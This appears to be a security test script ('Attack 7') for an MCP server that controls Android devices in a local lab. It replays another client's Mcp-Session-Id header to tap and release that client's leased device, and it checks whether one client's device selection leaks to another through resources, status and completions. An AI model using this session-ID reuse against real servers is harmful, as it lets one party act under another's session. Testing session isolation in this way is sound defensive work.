"""Attack 7: (a) a 2026-07-28 request carrying another client's Mcp-Session-Id: is it treated
as that session (its lease, its selection) while recorded under its own name? Control: the
same request without the header. (b) does A's selection leak to B through resources,
spock_get_status, android_list_devices, completions, or a default-device call?"""
import sys, json, time
sys.path.insert(0, "/work/attacks/device")
from lib import *

def short(x, n=220):
    return json.dumps(x)[:n]

lab = Lab(n=2)
try:
    P, Q = lab.adbd
    a = Http(lab.serve, "agent-a", "1.0")
    b = Http(lab.serve, "agent-b", "1.0")
    log("A lease P:", a.call("android_lease_device", {"serial": P})[1].get("action"))
    log("A select Q:", short(a.call("android_select_device", {"serial": Q})))
    z = Stateless(lab.serve, "agent-z", "9")
    zs = Stateless(lab.serve, "agent-z", "9", extra_headers={"Mcp-Session-Id": a.sid})
    log("control: stateless agent-z tap P:", short(z.call("android_tap", {"x": 2, "y": 2, "serial": P})))
    log("with A's sid: stateless agent-z tap P:", short(zs.call("android_tap", {"x": 2, "y": 2, "serial": P})))
    log("control: stateless agent-z tap (no serial):", short(z.call("android_tap", {"x": 3, "y": 3})))
    log("with A's sid: tap (no serial):", short(zs.call("android_tap", {"x": 3, "y": 3})))
    log("with A's sid: release A's lease:", short(zs.call("android_lease_device", {"serial": P, "release": True})))
    log("leases now:", short(b.call("spock_get_status")[1].get("leases"), 300))
    # selection leaks
    log("B tap (no serial):", short(b.call("android_tap", {"x": 4, "y": 4})))
    for uri in ("android://device/selected", "android://devices"):
        log(f"B read {uri}:", short(b.rpc("resources/read", {"uri": uri}), 400))
        log(f"stateless read {uri}:", short(z.rpc("resources/read", {"uri": uri}), 400))
    st = b.call("spock_get_status")[1]
    log("B status devices:", short(st.get("devices"), 400), "selected:", st.get("selected"), st.get("selectedDevice"))
    log("B list_devices selected flags:", [d.get("selected") for d in b.call("android_list_devices")[1]["devices"]])
    comp = b.rpc("completion/complete", {"ref": {"type": "ref/resource", "uri": "android://device/{serial}/info"}, "argument": {"name": "serial", "value": ""}})
    log("B completion serial:", short(comp, 300))
    comp = b.rpc("completion/complete", {"ref": {"type": "ref/resource", "uri": "android://device/{serial}/info"}, "argument": {"name": "serial", "value": ""}, "context": {"arguments": {}}})
    time.sleep(0.5)
    for r in lab.serve.audit():
        if r["tool"] in ("android_tap", "android_lease_device", "android_select_device"):
            log("  audit", r["seq"], r["client"], r["transport"], r["tool"], r.get("device"), r["outcome"], json.dumps(r.get("arguments"))[:80])
finally:
    lab.close()
